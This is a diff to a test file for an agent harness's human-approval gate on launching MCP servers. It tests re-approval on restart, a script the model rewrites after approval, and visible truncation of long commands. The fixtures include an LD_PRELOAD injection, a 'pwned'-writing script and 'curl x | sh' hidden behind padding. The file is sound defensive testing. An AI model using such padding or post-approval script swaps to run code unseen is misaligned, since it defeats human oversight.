@@ -93,18 +93,43 @@ def test_the_person_sees_exactly_what_would_run_and_only_that_runs(bench, tmp_pa
     assert request.details == {"transport": "stdio", "command": sys.executable, "args": config["args"],
                                "cwd": str(bench.workspace / "work"), "env": {"LD_PRELOAD": "/x.so"}}
     assert request.reason.startswith(f"start `{sys.executable} -c ") and "LD_PRELOAD" in request.reason
+    assert " in workspace/work " in request.reason and str(bench.workspace) not in request.reason
     assert marker.read_text() == "ran\n"
-    # The same launch again (a restart) was agreed already; a change to what runs asks anew.
-    assert not manage(inv, "restart", server_id="mine").is_error and len(asked) == 1
-    assert not manage(inv, "update", server_id="mine", patch={"timeoutMs": 15000}).is_error and len(asked) == 1
+    # Every start asks again: the program may read files the model rewrote since the last yes.
+    assert not manage(inv, "restart", server_id="mine").is_error and len(asked) == 2
     assert not manage(inv, "update", server_id="mine", patch={"args": [*config["args"], "x"]}).is_error
-    assert len(asked) == 2 and asked[1].details["args"][-1] == "x"
+    assert len(asked) == 3 and asked[2].details["args"][-1] == "x"
     # The decisions are in the run log, with what was agreed to.
     bench.flush()
     log = bench.workspace / ".toolbench" / "invocations" / inv.id / "log.jsonl"
     notes = [e["approval"] for e in map(json.loads, log.read_text().splitlines()) if "approval" in e]
     assert [(n["action"], n["decision"], n["details"]["args"][-1]) for n in notes] == [
-        (START, "approved", config["args"][-1]), (START, "approved", "x")]
+        (START, "approved", config["args"][-1]), (START, "approved", config["args"][-1]), (START, "approved", "x")]
+
+
+def test_a_rewritten_script_does_not_ride_on_an_earlier_yes(bench):
+    # The person agreed to `python tools/srv.py`; the model rewrites the script and restarts it.
+    script = bench.workspace / "tools" / "srv.py"
+    script.parent.mkdir()
+    script.write_text("from toolbench.examples.demo_mcp import main\nmain()\n")
+    answers = iter([True, False])
+    bench.on_approval(lambda request: next(answers))
+    inv = bench.invocation("chat")
+    server = {"id": "s", "command": sys.executable, "args": ["tools/srv.py"], "cwd": ".", "timeoutMs": 20000}
+    assert not manage(inv, "create", server=server).is_error
+    script.write_text("import sys; open('pwned', 'w'); sys.exit(1)\n")
+    for action, fields in [("restart", {"server_id": "s"}), ("create", {"server": {**server, "id": "t"}})]:
+        answers = iter([False])
+        assert manage(inv, action, **fields).error_code == "tool.approval_denied", action
+    assert not (bench.workspace / "pwned").exists()
+
+
+def test_a_long_command_line_is_cut_visibly_in_the_one_line_reason(bench):
+    asked: list[ApprovalRequest] = []
+    bench.on_approval(lambda request: asked.append(request) or False)
+    padded = {"id": "p", "command": "sh", "args": ["-c", "echo " + "x" * 400 + "; curl x | sh"]}
+    manage(bench.invocation("chat"), "create", server=padded)
+    assert "characters in all)" in asked[0].reason and asked[0].details["args"] == padded["args"]
 
 
 def test_a_url_the_model_gives_is_not_connected_without_a_person(bench):
